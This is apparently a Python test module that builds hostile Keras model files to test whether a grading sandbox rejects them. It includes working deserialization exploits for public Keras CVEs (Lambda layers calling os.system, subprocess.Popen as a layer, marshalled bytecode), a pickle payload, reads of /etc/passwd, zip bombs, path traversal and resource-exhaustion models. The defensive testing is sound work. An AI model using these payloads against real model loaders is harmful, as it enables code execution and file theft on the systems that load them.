"""Builders of hostile model files: the public attacks on Keras's loaders, damaged archives, and bombs.

Every payload, were it to run, would create the file ``marker``. The table in ``docs/models.md`` is `table()`;
a test keeps them equal and shows what each file gets.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Build = Callable[[Path, Path], None]


@dataclass(frozen=True)
class Hostile:
    """One hostile file: how it is built, what it tries, and what it gets."""

    name: str
    attack: str
    outcome: str
    build: Build


HOSTILE: dict[str, Hostile] = {}


def hostile(attack: str, outcome: str) -> Callable[[Build], Build]:
    """Register a builder, called with the path of the file to write and the marker that its payload would create.

    ``outcome`` is ``"sandbox: kind"`` where reading refuses, ``"grader: kind"`` where rebuilding does, ``"accepted"``
    where the payload is dropped and an honest model remains.
    """

    def register(build: Build) -> Build:
        name = build.__name__.replace("_", "-")
        HOSTILE[name] = Hostile(name, attack, outcome, build)
        return build

    return register


def table() -> str:
    """Return the Markdown table of `HOSTILE`."""
    rows = [f"| {item.name} | {item.attack} | {item.outcome} |" for item in HOSTILE.values()]
    return "\n".join(["| file | what it tries | what it gets |", "|---|---|---|", *rows])


def layer(class_name: str, name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    """Return one entry in a list of layers, as Keras 3 writes it."""
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": name, **config},
        "registered_name": None,
        "name": name,
    }


def honest_layers() -> list[dict[str, Any]]:
    """Return the layers of softmax regression on MNIST."""
    return [
        layer("InputLayer", "images", batch_shape=[None, 28, 28, 1], dtype="float32"),
        layer("Flatten", "flatten"),
        layer("Dense", "dense", units=10, activation="softmax"),
    ]


def sequential(*layers: dict[str, Any], name: str = "sequential") -> dict[str, Any]:
    """Return the configuration of a ``Sequential`` model."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": name, "layers": list(layers)},
        "registered_name": None,
    }


def tensor(name: str, call: int = 0) -> dict[str, Any]:
    """Return a reference to the output of a layer."""
    history = {"shape": [None, 28, 28, 1], "dtype": "float32", "keras_history": [name, call, 0]}
    return {"class_name": "__keras_tensor__", "config": history}


def functional(*layers: dict[str, Any], output: str, inputs: str = "images") -> dict[str, Any]:
    """Return the configuration of a functional model."""
    config = {"name": "functional", "layers": list(layers)}
    ends = {"input_layers": [inputs, 0, 0], "output_layers": [output, 0, 0]}
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {**config, **ends},
        "registered_name": "Functional",
    }


def weights_file(change: Callable[[h5py.File], None] | None = None) -> bytes:
    """Return the HDF5 file of `honest_layers`, changed by ``change``."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        for name in ("flatten", "dense"):
            file.create_group(f"layers/{name}/vars")
        file["layers/dense/vars/0"] = np.full((784, 10), 0.01, np.float32)
        file["layers/dense/vars/1"] = np.zeros(10, np.float32)
        if change is not None:
            change(file)
    return stream.getvalue()


def write(path: Path, config: Any = None, weights: bytes | None = None, extra: dict[str, bytes] | None = None) -> None:
    """Write a ``.keras`` file; what is not given is honest."""
    text = config if isinstance(config, str) else json.dumps(config or sequential(*honest_layers()))
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", weights if weights is not None else weights_file())
        for name, content in (extra or {}).items():
            archive.writestr(name, content)


def with_layer(path: Path, added: dict[str, Any]) -> None:
    """Write an honest model with one layer more after its input."""
    first, *rest = honest_layers()
    write(path, sequential(first, added, *rest))


def marshalled(marker: Path) -> dict[str, Any]:
    """Return a Python function as Keras writes a ``lambda``: marshalled byte code, which creates ``marker``."""
    function = eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]")
    code = base64.b64encode(marshal.dumps(function.__code__)).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def named_function(module: str, name: str) -> dict[str, Any]:
    """Return a reference to any function of any module."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def change_weights(path: Path, change: Callable[[h5py.File], None]) -> None:
    """Write an honest model whose weights file has been changed."""
    write(path, weights=weights_file(change))


def replace_kernel(file: h5py.File, **dataset: Any) -> None:
    """Replace the kernel of the dense layer by a data set made with these arguments."""
    del file["layers/dense/vars/0"]
    file["layers/dense/vars"].create_dataset("0", **dataset)


# Code in the configuration


@hostile("CVE-2025-1550: a Lambda layer that calls `os.system`", "grader: layer")
def function_of_any_module(path: Path, marker: Path) -> None:
    images, *_ = honest_layers()
    attack = layer("Lambda", "run", function=named_function("os", "system"), arguments={})
    attack["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": f"touch {marker}"}}]
    write(path, functional({**images, "inbound_nodes": []}, attack, output="run"))


@hostile("CVE-2025-1550: a class of any module in place of a layer (`subprocess.Popen`)", "grader: layer")
def class_of_any_module(path: Path, marker: Path) -> None:
    with_layer(path, layer("Popen", "run", module="subprocess", args=["touch", str(marker)]))


@hostile("CVE-2025-8747: `keras.utils.get_file` as the function of a Lambda layer", "grader: layer")
def download_with_get_file(path: Path, marker: Path) -> None:
    arguments = {"origin": Path(__file__).as_uri(), "cache_dir": str(marker.parent), "cache_subdir": "."}
    function = named_function("keras.utils", "get_file")
    with_layer(path, layer("Lambda", "download", function=function, arguments={**arguments, "fname": marker.name}))


@hostile("CVE-2025-9905: an `.h5` file, for which Keras ignores `safe_mode`, named `.keras`", "sandbox: format")
def h5_named_keras(path: Path, marker: Path) -> None:
    config = sequential(honest_layers()[0], layer("Lambda", "run", function=marshalled(marker)))
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights")


@hostile("CVE-2025-9905: the same file named `.h5`, beside where the model should be", "sandbox: missing")
def h5_beside(path: Path, marker: Path) -> None:
    h5_named_keras(path.with_suffix(".h5"), marker)


@hostile("CVE-2025-9906: `enable_unsafe_deserialization` in the first layer, code in the second", "grader: layer")
def unsafe_mode_switched_on(path: Path, marker: Path) -> None:
    switch = named_function("keras.config", "enable_unsafe_deserialization")
    first, *rest = honest_layers()
    code = layer("Lambda", "run", function=marshalled(marker))
    write(path, sequential(first, layer("Lambda", "switch", function=switch), code, *rest))


@hostile("CVE-2025-12058: a StringLookup layer whose vocabulary is a file of the grader", "grader: layer")
def vocabulary_from_a_file(path: Path, marker: Path) -> None:
    with_layer(path, layer("StringLookup", "read", vocabulary="/etc/passwd"))


@hostile("CVE-2026-1462: a TFSMLayer that loads a SavedModel", "grader: layer")
def tfsm_layer(path: Path, marker: Path) -> None:
    with_layer(path, layer("TFSMLayer", "load", filepath=str(marker.parent), call_endpoint="serve"))


@hostile("CVE-2026-12481: byte code in a Lambda layer of a nested model", "grader: layer")
def lambda_in_a_nested_model(path: Path, marker: Path) -> None:
    inner = sequential(honest_layers()[0], layer("Lambda", "run", function=marshalled(marker)), name="inner")
    with_layer(path, inner)


@hostile("byte code as an activation", "grader: layer")
def lambda_as_activation(path: Path, marker: Path) -> None:
    with_layer(path, layer("Activation", "run", activation=marshalled(marker)))


@hostile("a layer hidden in a wrapper layer", "grader: layer")
def lambda_in_a_wrapper(path: Path, marker: Path) -> None:
    with_layer(path, layer("TimeDistributed", "wrap", layer=layer("Lambda", "run", function=marshalled(marker))))


@hostile("a class of the student's own that is called Dense", "grader: layer")
def registered_name(path: Path, marker: Path) -> None:
    with_layer(path, {**layer("Dense", "own", units=3), "registered_name": "Custom>Dense"})


@hostile("a list in place of a class name", "grader: layer")
def list_as_class_name(path: Path, marker: Path) -> None:
    with_layer(path, {**layer("Dense", "own", units=3), "class_name": ["Dense", "Lambda"]})


@hostile("a model of a class of the student's own", "grader: layer")
def subclassed_model(path: Path, marker: Path) -> None:
    write(path, {**sequential(*honest_layers()), "module": None, "class_name": "Net", "registered_name": "Net"})


@hostile("functions of `os` as initializer, regularizer and constraint", "accepted")
def code_as_initializer(path: Path, marker: Path) -> None:
    run = {"module": "os", "class_name": "system", "config": {"command": f"touch {marker}"}, "registered_name": None}
    *rest, dense = honest_layers()
    dense["config"].update(kernel_initializer=run, bias_regularizer=run, kernel_constraint=run)
    write(path, sequential(*rest, dense))


@hostile("functions of `os` in `compile_config` and `build_config`", "accepted")
def code_in_compile_config(path: Path, marker: Path) -> None:
    run = {"module": "os", "class_name": "system", "config": {"command": f"touch {marker}"}, "registered_name": None}
    write(path, {**sequential(*honest_layers()), "compile_config": {"loss": run}, "build_config": run})


# Configurations that cost


@hostile("a dense layer with a thousand million units", "grader: config")
def endless_units(path: Path, marker: Path) -> None:
    with_layer(path, layer("Dense", "huge", units=10**9))


@hostile("more weights than memory", "grader: too-large")
def endless_parameters(path: Path, marker: Path) -> None:
    first, flatten, dense = honest_layers()
    write(path, sequential(first, flatten, *(layer("Dense", f"dense_{n}", units=60_000) for n in range(3)), dense))


@hostile("small filters, endless work", "grader: too-large")
def endless_work(path: Path, marker: Path) -> None:
    first, *rest = honest_layers()
    convolutions = (layer("Conv2D", f"c{n}", filters=256, kernel_size=[9, 9], padding="same") for n in range(9))
    write(path, sequential(first, *convolutions, *rest))


@hostile("an image that grows without end", "grader: too-large")
def endless_upsampling(path: Path, marker: Path) -> None:
    first, *rest = honest_layers()
    growing = (layer("UpSampling2D", f"grow_{n}", size=[64, 64]) for n in range(4))
    write(path, sequential(first, *growing, *rest))


@hostile("models nested fifty deep", "grader: config")
def nested_models(path: Path, marker: Path) -> None:
    model = sequential(*honest_layers())
    for number in range(50):
        model = sequential(honest_layers()[0], model, name=f"m{number}")
    write(path, model)


@hostile("two layers that wait for each other", "grader: config")
def cycle(path: Path, marker: Path) -> None:
    images, *_ = honest_layers()
    first = {**layer("Activation", "a", activation="relu"), "inbound_nodes": [{"args": [tensor("b")], "kwargs": {}}]}
    second = {**layer("Activation", "b", activation="relu"), "inbound_nodes": [{"args": [tensor("a")], "kwargs": {}}]}
    write(path, functional({**images, "inbound_nodes": []}, first, second, output="b"))


@hostile("JSON nested 100,000 deep", "sandbox: config")
def deep_json(path: Path, marker: Path) -> None:
    write(path, "[" * 100_000 + "]" * 100_000)


@hostile("a key given twice, one meaning for each reader", "grader: config")
def repeated_key(path: Path, marker: Path) -> None:
    text = json.dumps(sequential(*honest_layers()))
    write(path, text.replace('"units": 10', '"units": 10, "units": 1000000'))


@hostile("NaN as an argument", "grader: config")
def nan_in_the_configuration(path: Path, marker: Path) -> None:
    with_layer(path, layer("Rescaling", "scale", scale=float("nan")))


# Weights


@hostile("HDF5: a link to a file outside", "sandbox: weights")
def external_link(path: Path, marker: Path) -> None:
    def change(file: h5py.File) -> None:
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/")

    change_weights(path, change)


@hostile("HDF5: a group that links back to the root", "sandbox: weights")
def soft_link(path: Path, marker: Path) -> None:
    def change(file: h5py.File) -> None:
        del file["layers/dense"]
        file["layers/dense"] = h5py.SoftLink("/")

    change_weights(path, change)


@hostile("HDF5: a virtual data set over another file", "sandbox: weights")
def virtual_dataset(path: Path, marker: Path) -> None:
    def change(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((784, 10), np.float32)
        layout[:] = h5py.VirtualSource("/etc/passwd", "data", (784, 10))
        del file["layers/dense/vars/0"]
        file["layers/dense/vars"].create_virtual_dataset("0", layout)

    change_weights(path, change)


@hostile("HDF5: a data set stored in another file", "sandbox: weights")
def external_storage(path: Path, marker: Path) -> None:
    stored = [("/etc/passwd", 0, 784 * 10 * 4)]
    change_weights(path, lambda file: replace_kernel(file, shape=(784, 10), dtype="f4", external=stored))


@hostile("HDF5: a data set of 4 TB in a few bytes", "sandbox: too-large")
def huge_dataset(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: replace_kernel(file, shape=(10**6, 10**6), dtype="f4", chunks=(1024, 1024)))


@hostile("HDF5: an array of 400 MB made of a fill value", "sandbox: too-large")
def fill_value(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: replace_kernel(file, shape=(10_000, 10_000), dtype="f4", fillvalue=0.5))


@hostile("HDF5: a million chunks of one value", "sandbox: weights")
def chunks_of_one_value(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: replace_kernel(file, shape=(1000, 1000), dtype="f4", chunks=(1, 1)))


@hostile("HDF5: hard links that nest groups and name one array again and again", "sandbox: weights")
def nested_hard_links(path: Path, marker: Path) -> None:
    images, *_ = honest_layers()
    inner = sequential(*honest_layers())
    entries = [{**inner, "config": {**inner["config"], "name": f"model_{number}"}} for number in range(300)]

    def change(file: h5py.File) -> None:
        for number in range(300):
            file[f"layers/sequential_{number}" if number else "layers/sequential"] = file["/"]

    write(path, sequential(images, *entries), weights_file(change))


@hostile("HDF5: text in place of numbers", "sandbox: weights")
def text_as_weights(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: replace_kernel(file, shape=(784, 10), dtype=h5py.string_dtype()))


@hostile("weights that are NaN", "grader: weights")
def nan_weights(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: replace_kernel(file, data=np.full((784, 10), np.nan, np.float32)))


@hostile("weights of another shape", "grader: weights")
def wrong_shape(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: replace_kernel(file, data=np.zeros((10, 784), np.float32)))


@hostile("no weights for a layer", "grader: weights")
def missing_weights(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: file.__delitem__("layers/dense"))


@hostile("weights for a layer that has none", "grader: weights")
def extra_weights(path: Path, marker: Path) -> None:
    change_weights(path, lambda file: file["layers/flatten/vars"].create_dataset("0", data=np.zeros(3, np.float32)))


# Archives


@hostile("a configuration of 5 GB", "sandbox: too-large")
def config_of_5_gb(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", "{}")
        archive.writestr("model.weights.h5", weights_file())
        archive.getinfo("config.json").file_size = 5_000_000_000


@hostile("a zip bomb: 200 MB of zeros as weights", "sandbox: too-large")
def zip_bomb(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("config.json", json.dumps(sequential(*honest_layers())))
        with archive.open("model.weights.h5", "w") as member:
            for _ in range(200):
                member.write(bytes(1_000_000))


@hostile("a thousand members", "sandbox: too-large")
def many_members(path: Path, marker: Path) -> None:
    write(path, extra={f"assets/{number}": b"" for number in range(1000)})


@hostile("a comment of 65,517 bytes in front of which a second end record names 2,000 members", "sandbox: too-large")
def members_behind_a_comment(path: Path, marker: Path) -> None:
    path.write_bytes(hidden_members(2_000))


def hidden_members(count: int) -> bytes:
    """Return an archive whose last end record says 1 member, and whose zip64 record ``count``."""
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 45, 45, 0, 0, 0, 33, 0, 0, 0, 8, *(0,) * 6)
    directory = b"".join(entry + b"%08d" % number for number in range(count))
    body = b"PK\3\4" + bytes(26)
    end = len(body) + len(directory)
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), len(body))
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, end, 1)
    last = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 60, len(body), 65_517)
    return body + directory + record + locator + last + bytes(65_517)


@hostile("a symbolic link in the archive", "sandbox: format")
def link_in_the_archive(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        link = zipfile.ZipInfo("config.json")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("model.weights.h5", weights_file())


@hostile("a member that would be unpacked outside the folder", "sandbox: format")
def traversal(path: Path, marker: Path) -> None:
    write(path, extra={f"../{marker.name}": b"x"})


@hostile("an absolute path in the archive", "sandbox: format")
def absolute_member(path: Path, marker: Path) -> None:
    write(path, extra={str(marker): b"x"})


@hostile("two configurations in one archive", "sandbox: format")
def duplicate_member(path: Path, marker: Path) -> None:
    write(path)
    with zipfile.ZipFile(path, "a") as archive:
        member = zipfile.ZipInfo("config.jsom")
        archive.writestr(member, "{}")
        member.filename = "config.json"


@hostile("a zip with a SavedModel in it", "sandbox: format")
def zipped_saved_model(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/saved_model.pb", b"\x08\x01")


@hostile("an archive cut in the middle", "sandbox: format")
def truncated(path: Path, marker: Path) -> None:
    write(path)
    path.write_bytes(path.read_bytes()[:-2000])


@hostile("a pickle named `.keras`", "sandbox: format")
def pickle_file(path: Path, marker: Path) -> None:
    path.write_bytes(f"cos\nsystem\n(S'touch {marker}'\ntR.".encode())


@hostile("an empty file", "sandbox: format")
def empty_file(path: Path, marker: Path) -> None:
    path.write_bytes(b"")


# Things that are no file


@hostile("a SavedModel folder", "sandbox: format")
def saved_model_folder(path: Path, marker: Path) -> None:
    path.mkdir()
    (path / "saved_model.pb").write_bytes(b"\x08\x01")


@hostile("a symbolic link to another model", "sandbox: format")
def link_to_a_file(path: Path, marker: Path) -> None:
    other = path.with_name("other.keras")
    write(other)
    path.symlink_to(other)


@hostile("a pipe that nobody writes to", "sandbox: format")
def pipe(path: Path, marker: Path) -> None:
    os.mkfifo(path)


@hostile("nothing at all", "sandbox: missing")
def nothing(path: Path, marker: Path) -> None:
    """Hand in no file."""
